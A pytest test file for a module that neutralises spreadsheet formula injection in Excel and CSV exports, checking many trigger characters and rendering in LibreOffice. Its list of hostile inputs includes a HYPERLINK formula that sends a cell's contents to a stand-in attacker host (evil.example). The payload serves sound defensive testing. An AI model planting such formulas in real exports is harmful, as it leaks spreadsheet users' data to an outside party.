"""The neutralising writer of every export (``reports.neutral``), on a table of inputs: what
each value becomes in a cell, in an .xlsx read back with openpyxl, in a CSV, and as
LibreOffice shows both files. End to end through the app: ``test_hostile_exports``."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reports import neutral

OFFICE = shutil.which("libreoffice") or shutil.which("soffice")

#: (typed, neutralised): OWASP's triggers, ASVS's NUL, the line feed, the full-width forms.
HOSTILE = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?d="&A1,"Xem")', '\'=HYPERLINK("http://evil.example/?d="&A1,"Xem")'),
    ("+SUM(1,2)", "'+SUM(1,2)"),
    ("-2+3", "'-2+3"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("\x00=1+1", "'\x00=1+1"),
    ("＝1+1", "'＝1+1"),
    ("＋1+1", "'＋1+1"),
    ("－1+1", "'－1+1"),
    ("＠SUM(1,2)", "'＠SUM(1,2)"),
    ("=", "'="),
    ("-", "'-"),
]  # fmt: skip
#: Text that is already text to every spreadsheet: unchanged.
HARMLESS = [
    "Nguyễn Văn An",
    "Phòng Tài chính - Kế hoạch Quận 10",
    "Phường 1, Quận 10",
    "0791000001",  # an identifier: its leading zero stays
    "007",
    "—",  # the report's "unknown" (an em dash, not a minus)
    "'=1+1",  # neutralised already
    "a=b",
    "",
]


@pytest.mark.parametrize(("typed", "expected"), HOSTILE)
def test_text__leading_trigger__quote_in_front(typed: str, expected: str) -> None:
    assert neutral.text(typed) == expected


@pytest.mark.parametrize("typed", HARMLESS)
def test_text__harmless__unchanged(typed: str) -> None:
    assert neutral.text(typed) == typed
    assert neutral.csv_text(typed) == typed


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        *(case for case in HOSTILE if case[0][:1] not in "\t\r\n"),
        ("\t=1+1", "'\t'=1+1"),  # a tab, CR or LF is a trigger and a separator
        ("\r=1+1", "'\r'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
        ("a;=1+1;b", "a;'=1+1;b"),  # Excel where the list separator is ";" (vi-VN)
        ("a,-1", "a,'-1"),
        ("a\t@b", "a\t'@b"),
        ("a\r\n+b", "a\r\n'+b"),
        ("=a;+b", "'=a;'+b"),
        ("a; =1+1", "a; =1+1"),  # a space first: text
    ],
)
def test_csv_text__every_place_a_cell_may_start(typed: str, expected: str) -> None:
    assert neutral.csv_text(typed) == expected


# --- Excel -----------------------------------------------------------------------------------


def written(values: list[Any], typed: bool = True) -> list[Any]:
    """``values`` written by ``put`` in column A, saved, and read back with openpyxl."""
    book = openpyxl.Workbook()
    for row, value in enumerate(values, start=1):
        neutral.put(book.active, row, 1, value, typed=typed)
    out = io.BytesIO()
    book.save(out)
    ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    return [ws.cell(row, 1) for row in range(1, len(values) + 1)]


def test_put__typed_text__neutralised_and_never_a_formula() -> None:
    cells = written([typed for typed, _ in HOSTILE if typed[:1] != "\x00"] + HARMLESS[:-1])
    expected = [e for t, e in HOSTILE if t[:1] != "\x00"] + HARMLESS[:-1]
    assert [c.value for c in cells] == expected
    assert {c.data_type for c in cells} == {"s"}


def test_put__our_own_text__kept_as_written_but_still_text() -> None:
    cells = written(["- Ghi chú", "=1+1", "#N/A"], typed=False)
    assert [c.value for c in cells] == ["- Ghi chú", "=1+1", "#N/A"]
    assert {c.data_type for c in cells} == {"s"}  # not a formula, not an error


def test_put__numbers_stay_numbers() -> None:
    cells = written([-5, 0, 12, 0.873, -0.5])
    assert [c.value for c in cells] == [-5, 0, 12, 0.873, -0.5]
    assert {c.data_type for c in cells} == {"n"}


def test_put__error_code_typed__text() -> None:
    (cell,) = written(["#N/A"])
    assert (cell.value, cell.data_type) == ("#N/A", "s")


def test_put__characters_xml_cannot_carry__replaced_not_refused() -> None:
    (cell,) = written(["Lê\x07Văn\x1bAn"])
    assert cell.value == "Lê\ufffdVăn\ufffdAn"


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_put__any_text__a_text_cell_that_starts_with_no_trigger(value: str) -> None:
    book = openpyxl.Workbook()
    cell = neutral.put(book.active, 1, 1, value)
    assert cell.data_type == "s"
    assert cell.value[:1] not in neutral.TRIGGERS


# --- CSV -------------------------------------------------------------------------------------

#: Where the CSV writer's cells may start, for any separator it defends against.
CELL_STARTS = re.compile(r"(?:^|[,;\t\r\n])(.)", re.DOTALL)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_csv_text__any_text__no_cell_starts_with_a_trigger(value: str) -> None:
    starts = CELL_STARTS.findall(neutral.csv_text(value))
    assert not set(starts) & (neutral.TRIGGERS - set("\t\r\n"))


def table() -> pd.DataFrame:
    frame = pd.DataFrame.from_records(
        [
            {"Mã": "Q10-X", "Tên": "=111+111", "Tổng số": 4, "Tỷ lệ (%)": 25.0, "Chênh lệch": -3},
            {"Mã": "007", "Tên": "a;=300+33;b", "Tổng số": None, "Tỷ lệ (%)": None,
             "Chênh lệch": 0},
            {"Mã": "", "Tên": "TỔNG CỘNG", "Tổng số": 4, "Tỷ lệ (%)": 25.0, "Chênh lệch": -3},
        ]
    )  # fmt: skip
    frame["Tổng số"] = frame["Tổng số"].astype("Int64")
    return frame.rename(columns={"Chênh lệch": "=Chênh lệch"})


def test_csv_bytes__text_neutralised_and_quoted_numbers_bare() -> None:
    data = neutral.csv_bytes(table())
    assert data.startswith("\ufeff".encode())
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0] == '"Mã","Tên","Tổng số","Tỷ lệ (%)","\'=Chênh lệch"'
    assert lines[1] == '"Q10-X","\'=111+111",4,25.0,-3'
    assert lines[2] == '"007","a;\'=300+33;b","","",0'
    assert lines[3] == '"","TỔNG CỘNG",4,25.0,-3'


# --- as LibreOffice shows them ------------------------------------------------------------


def libreoffice(path: Path, tmp_path: Path, infilter: str | None = None) -> list[list[str]]:
    """The first sheet of ``path`` as LibreOffice shows it, written back as CSV."""
    assert OFFICE is not None
    out = tmp_path / "out"
    subprocess.run(
        [OFFICE, "--headless", f"-env:UserInstallation=file://{tmp_path / 'profile'}",
         *([f"--infilter=CSV:{infilter}"] if infilter else []),
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true",
         "--outdir", str(out), str(path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    return list(csv.reader(io.StringIO((out / f"{path.stem}.csv").read_text(encoding="utf-8"))))


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice__xlsx__shows_the_text(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    typed = [t for t, _ in HOSTILE if t[:1] not in "\x00\r\n"]
    for row, value in enumerate(typed, start=1):
        neutral.put(book.active, row, 1, value)
        neutral.put(book.active, row, 2, value, typed=False)
    neutral.put(book.active, len(typed) + 1, 1, -5)
    path = tmp_path / "hostile.xlsx"
    book.save(path)
    shown = libreoffice(path, tmp_path)
    assert [row[0] for row in shown[:-1]] == [neutral.text(t) for t in typed]
    assert [row[1] for row in shown[:-1]] == typed  # text as written: not evaluated
    assert shown[-1][0] == "-5"


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")
@pytest.mark.parametrize(("separator", "name"), [(44, "comma"), (59, "semicolon")])
def test_libreoffice__csv__shows_the_text_whatever_the_separator(
    tmp_path: Path, separator: int, name: str
) -> None:
    path = tmp_path / f"hostile-{name}.csv"
    path.write_bytes(neutral.csv_bytes(table()))
    shown = libreoffice(path, tmp_path, f"{separator},34,76")
    cells = {cell for row in shown for cell in row}
    assert not {"222", "333"} & cells  # what =111+111 and =300+33 evaluate to
    if name == "comma":
        assert ["Q10-X", "'=111+111", "4", "25", "-3"] in shown
        assert "a;'=300+33;b" in cells
    else:  # each line cut at ";", quotes or not: a cell starts inside the name
        assert "'=300+33" in cells
